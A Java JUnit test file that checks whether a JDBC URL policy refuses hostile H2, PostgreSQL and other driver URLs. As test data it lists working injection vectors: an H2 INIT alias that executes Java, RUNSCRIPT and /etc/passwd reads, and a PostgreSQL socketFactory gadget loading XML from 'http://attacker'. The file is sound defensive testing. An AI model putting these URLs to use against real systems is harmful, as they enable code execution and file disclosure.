package io.hybridlake.batch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.hybridlake.HybridlakeException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Properties;
import org.h2.Driver;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * JDBC URLs are the classic way to run code through a database driver. Every known vector for H2 and
 * PostgreSQL is refused by the policy before any driver sees it, and refusing it creates nothing on
 * disk; the first test shows that the H2 vector is real when a driver does get the URL.
 */
class ImportsCannotExecuteAnythingTest {
    @TempDir
    Path dir;

    private String aliasThatTouches(Path marker) {
        // ';' ends an H2 URL setting: the Java source escapes its own as '\;'
        return "CREATE ALIAS TOUCH AS 'String touch(String p) throws Exception { java.nio.file.Files.createFile("
                + "java.nio.file.Path.of(p))\\; return p\\; }'\\;CALL TOUCH('" + marker + "')";
    }

    @Test
    void theH2InitVectorIsRealWhenADriverGetsTheUrl() throws Exception {
        Path marker = dir.resolve("control-marker");
        String url = "jdbc:h2:mem:control;INIT=" + aliasThatTouches(marker);
        try (Connection c = new Driver().connect(url, new Properties())) {
            assertThat(c).isNotNull();
        }
        assertThat(marker).as("the control: the driver ran the caller's Java").exists();
    }

    @Test
    void everyH2VectorIsRefusedAndNothingIsCreated() throws Exception {
        Path marker = dir.resolve("h2-marker");
        Path script = Files.writeString(dir.resolve("evil.sql"), "CREATE ALIAS X AS 'void x() {}';");
        List<String> vectors = List.of(
                "jdbc:h2:mem:a;INIT=" + aliasThatTouches(marker),
                "jdbc:h2:mem:a;init=" + aliasThatTouches(marker),
                "jdbc:h2:mem:a; INIT =" + aliasThatTouches(marker),
                "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM '" + script + "'",
                "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM '/etc/passwd'",
                "jdbc:h2:mem:a;DB_CLOSE_DELAY=-1;INIT=CALL 1",
                "jdbc:h2:mem:a;DB_CLOSE_DELAY=-1\\;INIT=CALL 1",
                "jdbc:h2:mem:a;MODE=MySQL\\;INIT=CALL 1",
                "jdbc:h2:mem:a;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:a;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:mem:a;AUTO_SERVER=TRUE",
                "jdbc:h2:mem:a;ACCESS_MODE_DATA=rws",
                "jdbc:h2:mem:a;FILE_LOCK=FS",
                "jdbc:h2:file:" + dir.resolve("created-db"),
                "jdbc:h2:" + dir.resolve("created-db2"),
                "jdbc:h2:~/created-db3",
                "jdbc:h2:./created-db4",
                "jdbc:h2:zip:" + dir.resolve("x.zip") + "!/db",
                "jdbc:h2:split:" + dir.resolve("db5"),
                "jdbc:h2:nio:" + dir.resolve("db6"),
                "jdbc:h2:mem:../../etc/passwd",
                "jdbc:h2:tcp://localhost/~/db7",
                "jdbc:h2:tcp://localhost/" + dir.resolve("db8"),
                "jdbc:h2:tcp://localhost/mem:x;INIT=CALL 1",
                "jdbc:h2:mem:a;INIT=CALL 1 ",
                "jdbc:h2:mem:a\n;INIT=CALL 1");
        assertAllRefused(vectors);
        assertThat(marker).doesNotExist();
        try (var files = Files.list(dir)) {
            assertThat(files.map(f -> f.getFileName().toString())).containsExactly("evil.sql");
        }
    }

    @Test
    void everyPostgresVectorIsRefused() {
        String base = "jdbc:postgresql://db.example:5432/crm?";
        List<String> vectors = new ArrayList<>();
        for (String property : List.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://attacker/x.xml", "sslfactory=org.postgresql.ssl.NonValidatingFactory",
                "sslfactoryarg=x", "sslhostnameverifier=x.Y", "sslpasswordcallback=x.Y",
                "authenticationPluginClassName=x.Y", "loggerFile=/tmp/pg.log", "loggerLevel=TRACE", "sslkey=/etc/passwd",
                "sslcert=/etc/passwd", "sslrootcert=/etc/passwd", "jaasApplicationName=x", "jaasLogin=true",
                "kerberosServerName=x", "sspiServiceClass=x", "gsslib=sspi", "localSocketAddress=1.2.3.4",
                "options=-c%20log_directory=/tmp", "SOCKETFACTORY=x.Y", "socket%46actory=x.Y", "socketFactory%3Dx.Y",
                "ssl=true&loggerFile=/tmp/x", "ApplicationName=a%27b")) {
            vectors.add(base + property);
        }
        vectors.addAll(List.of("jdbc:postgresql:crm", "jdbc:postgresql:///crm", "jdbc:postgresql://h/crm;loggerFile=x",
                "jdbc:postgresql://h/../crm", "JDBC:POSTGRESQL://h/crm?socketFactory=x"));
        assertAllRefused(vectors);
    }

    @Test
    void otherDriversAreRefused() {
        assertAllRefused(List.of("jdbc:duckdb:" + dir.resolve("x.db"), "jdbc:duckdb:", "jdbc:sqlite:/tmp/x",
                "jdbc:derby:x;create=true", "jdbc:mysql://h/db?allowLoadLocalInfile=true",
                "jdbc:hsqldb:file:x", "http://evil/", "", "jdbc:"));
    }

    @Test
    void plainUrlsPassWithTheDriverChosenByThePolicy() {
        assertThat(JdbcUrlPolicy.check("crm", "jdbc:postgresql://db.example:5432/crm?sslmode=require&ApplicationName=hl")
                .driverClass()).isEqualTo("org.postgresql.Driver");
        assertThat(JdbcUrlPolicy.check("crm", "jdbc:postgresql://a:5432,b:5433/crm").driverClass())
                .isEqualTo("org.postgresql.Driver");
        assertThat(JdbcUrlPolicy.check("legacy", "jdbc:h2:mem:legacy;DB_CLOSE_DELAY=-1").driverClass())
                .isEqualTo("org.h2.Driver");
        assertThat(JdbcUrlPolicy.check("legacy", "jdbc:h2:tcp://db.example:9092/legacy/main;IFEXISTS=TRUE")
                .driverClass()).isEqualTo("org.h2.Driver");
    }

    @Test
    void aDeclaredSourceWithAHostileUrlStopsStartUpNamingIt() {
        assertThatThrownBy(() -> new JdbcSources(Map.of("crm", new JdbcSources.Source("crm",
                "jdbc:h2:mem:a;INIT=CALL(1)", Optional.empty(), Optional.empty()))))
                .isInstanceOf(HybridlakeException.class).hasMessageContaining("JDBC source 'crm'")
                .hasMessageContaining("INIT");
        JdbcSources none = new JdbcSources(Map.of());
        assertThatThrownBy(() -> none.source("jdbc:h2:mem:x")).isInstanceOf(HybridlakeException.BadRequest.class)
                .hasMessageContaining("no JDBC source");
    }

    private static void assertAllRefused(List<String> urls) {
        for (String url : urls) {
            assertThatThrownBy(() -> JdbcUrlPolicy.check("src", url)).as(url)
                    .isInstanceOf(HybridlakeException.BadRequest.class).hasMessageContaining("JDBC source 'src'")
                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("root:x:0:0"));
        }
    }
}
